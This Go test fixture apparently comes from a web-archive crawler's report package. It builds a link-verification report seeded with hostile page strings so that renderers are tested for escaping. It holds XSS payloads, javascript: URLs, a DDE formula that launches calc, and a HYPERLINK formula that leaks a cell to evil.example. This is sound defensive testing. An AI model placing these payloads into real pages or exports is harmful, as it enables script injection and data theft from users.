package report

import (
	"time"

	"github.com/salvage-archive/salvage/crawler/verify"
	"github.com/salvage-archive/salvage/policy"
)

// Hostile strings, as pages can carry them.
const (
	xssScript  = `<script>alert(1)</script>`
	xssAttr    = `"><img src=x onerror=alert(1)>`
	xssPwn     = `<script>window.__pwned=1</script><img src=x onerror="window.__pwned=2">`
	formula    = `=HYPERLINK("http://evil.example/?leak="&A1,"click me")`
	ddeFormula = `+cmd|' /C calc'!A0`
	lineSep    = "before\u2028after\u2029end"
	nonASCII   = "日本語 — ünïcode “quoted”"
)

var fixtureTime = time.Date(2026, 5, 9, 12, 0, 0, 0, time.UTC)

// fixtureReport is a report with one link of most classes and page strings
// chosen to break every renderer that does not escape.
func fixtureReport() *verify.Report {
	r := &verify.Report{
		Tool:      "salvage test",
		Generated: fixtureTime,
		Seeds:     []string{"https://example.org/en"},
		Archives:  []string{"out/crawl-00000.warc.gz"},
		Links:     fixtureLinks(),
		Feeds:     fixtureFeeds(),
		Missing:   []string{"https://example.org/en/gone", "https://example.org/" + xssAttr},
	}
	r.Counts, r.ByHost = tally(r.Links)
	r.Group()
	return r
}

func fixtureLinks() []verify.Link {
	capture := &verify.Capture{File: "crawl-00000.warc.gz", Offset: 1234, Date: fixtureTime.Add(-time.Hour), Status: 200, Mime: "text/html"}
	home, news := "https://example.org/en", "https://example.org/en/news"
	return []verify.Link{
		{URL: "https://example.org/en/about", Internal: true, Status: 200, Class: "ok", Captured: capture,
			ReplayURL:   "replay/index.html#view=pages&url=https%3A%2F%2Fexample.org%2Fen%2Fabout",
			Appearances: []verify.Appearance{{Page: home, Element: "a", Attr: "href", Text: "About us"}}},
		{URL: "https://example.org/en/gone", Internal: true, Status: 404, Class: "not-found",
			Evidence: "status-404: HTTP 404 \"Not Found\"\nsecond line", Captured: capture, ReplayURL: "javascript:alert(document.domain)",
			Appearances: []verify.Appearance{{Page: home, Element: "a", Text: xssScript}, {Page: news, Element: "a", Text: xssAttr}, {Page: news, Element: "a", Text: "again"}}},
		{URL: "https://example.org/en/removed", Internal: true, Status: 410, Class: "not-found", Evidence: "status-410",
			Appearances: []verify.Appearance{{Page: news, Element: "img", Attr: "src", Text: nonASCII}}},
		{URL: "https://other.example/ünïcode?q=" + lineSep, Class: "timeout", Evidence: "-timeout after 10s " + lineSep, DurationMS: 10000,
			Appearances: []verify.Appearance{{Page: home, Element: "a", Text: formula}}},
		{URL: "http://bad host/", Class: "malformed", Evidence: "@parse: invalid character \" \" in host name",
			Appearances: []verify.Appearance{{Page: "javascript:alert(1)", Element: "a", Text: ddeFormula}}},
		{URL: "https://social.example/page", Class: "login-wall", Status: 200, FinalURL: "https://social.example/login?next=%2Fpage",
			Evidence: "login-form: <form action=/login>", Chain: []verify.Hop{{URL: "https://social.example/page", Status: 302, Location: "/login?next=%2Fpage"}, {URL: "https://social.example/login?next=%2Fpage", Status: 200}},
			Appearances: []verify.Appearance{{Page: home, Element: "a", Text: "Follow us"}}},
		{URL: "mailto:info@example.org", Class: "not-checked", Evidence: "scheme mailto",
			Appearances: []verify.Appearance{{Page: home, Element: "a", Text: "Mail"}}},
		{URL: "https://example.org/en/old", Internal: true, Status: 301, Class: "redirected", FinalURL: "https://example.org/en/new"},
	}
}

func fixtureFeeds() []verify.Feed {
	return []verify.Feed{
		{Platform: "twitter", Kind: "timeline", URL: "https://twitter.com/example", Pages: []string{"https://example.org/en"},
			State: "closed", Evidence: []string{"account suspended", xssScript}},
		{Platform: "stream", Kind: "audio-stream", URL: "javascript:alert(2)", Pages: []string{"https://example.org/en/radio"},
			State: "live", Evidence: []string{"icy-name: Radio <b>|bold|</b>"}},
	}
}

// tally counts links per class and per host and class, as verify does.
func tally(links []verify.Link) (map[string]int, map[string]map[string]int) {
	return countsOf(links), countByHost(links)
}

func countsOf(links []verify.Link) map[string]int {
	counts := make(map[string]int)
	for _, l := range links {
		counts[string(l.Class)]++
	}
	return counts
}

// appearanceRows is the number of CSV rows links give.
func appearanceRows(links []verify.Link) int {
	n := 0
	for _, l := range links {
		n += max(1, len(l.Appearances))
	}
	return n
}

func linksOfClass(links []verify.Link, c policy.LinkClass) int {
	n := 0
	for _, l := range links {
		if l.Class == c {
			n++
		}
	}
	return n
}
